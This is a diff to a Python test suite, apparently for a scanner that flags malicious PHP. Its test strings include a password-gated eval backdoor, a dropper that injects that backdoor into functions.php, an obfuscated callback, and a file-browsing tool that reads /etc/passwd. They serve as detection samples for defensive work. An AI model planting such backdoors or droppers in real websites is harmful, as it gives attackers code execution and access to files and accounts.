@@ -226,7 +226,8 @@ def test_database_client_on_request_credentials():
 def test_database_page_with_a_parameterised_query_is_clean():
     _clean("<?php $l = mysqli_connect('localhost', 'app', 'secret', 'shop');"
            " $r = mysqli_query($l, 'SELECT name FROM item WHERE id = ' . intval($_GET['id']));"
-           " $q = mysqli_query($l, \"SELECT * FROM t WHERE n = '\" . mysqli_real_escape_string($l, $_GET['n']) . \"'\");")
+           " $q = mysqli_query($l, \"SELECT * FROM t WHERE n = '\""
+           " . mysqli_real_escape_string($l, $_GET['n']) . \"'\");")
 
 
 def test_listener_on_a_request_given_address():
@@ -337,8 +338,10 @@ def test_page_printing_packed_markup_is_clean():
 
 def test_payload_put_in_front_of_a_files_old_contents():
     payload = "<?php if (isset($_REQUEST['k']) && $_REQUEST['pw'] == '{$PASSWORD}') { eval($_REQUEST['k']); } ?>"
-    code = (f"<?php $hash = md5(uniqid()); $code = str_replace('{{$PASSWORD}}', $hash, base64_decode('{_b64(payload)}'));"
-            " $f = $_SERVER['DOCUMENT_ROOT'] . '/functions.php'; $old = file_get_contents($f); file_put_contents($f, $code . $old);")
+    code = (f"<?php $hash = md5(uniqid());"
+            f" $code = str_replace('{{$PASSWORD}}', $hash, base64_decode('{_b64(payload)}'));"
+            " $f = $_SERVER['DOCUMENT_ROOT'] . '/functions.php'; $old = file_get_contents($f);"
+            " file_put_contents($f, $code . $old);")
     _shell(code, rule="php.dropper")
 
 
@@ -395,3 +398,31 @@ def test_writing_a_perl_helper_script_is_clean():
 def test_callback_named_by_xor_fed_a_request_key():
     _shell(f"<?php $f = {_xor_pairs('qqqqqq')}; array_intersect_uassoc(array($_REQUEST['k'] => ''), array(1), $f);",
            rule="php.computed-function")
+
+
+def _fm(code: str) -> float:
+    return max((h.confidence for h in _hits(code) if h.rule == "php.file-manager"), default=0.0)
+
+
+_LISTER = ("<?php foreach (scandir($_GET['d']) as $f) { echo $f . fileperms($_GET['d'] . '/' . $f); }"
+           " echo file_get_contents($_GET['v']); ?>" + "<p>page footer</p>\n" * 300)  # past the small-page rule
+
+
+def test_a_file_tool_behind_its_own_password_scores_higher():
+    base = _LISTER + "<?php echo php_uname(); ?>"
+    gated = base.replace("<?php ", "<?php if (md5($_POST['k']) != '0cc175b9c0f1b6a831c399e269772661') die();", 1)
+    assert _fm(gated) >= _fm(base) + 0.14 > 0.14
+    gated2 = base.replace("<?php ", "<?php if ($_POST['pass'] !== 'letmein') die();", 1)
+    assert _fm(gated2) >= _fm(base) + 0.14
+
+
+def test_a_form_action_compared_with_a_word_is_no_password():
+    base = _LISTER + "<?php echo php_uname(); ?>"
+    acted = base.replace("<?php ", "<?php if ($_POST['action'] == 'list') {} ", 1)
+    assert _fm(acted) == _fm(base) > 0
+
+
+def test_a_file_tool_reading_the_account_list_scores_higher():
+    base = _LISTER + "<?php echo php_uname(); ?>"
+    recon = base + "<?php echo file_get_contents('/etc/passwd');"
+    assert _fm(recon) >= _fm(base) + 0.09 > 0.09
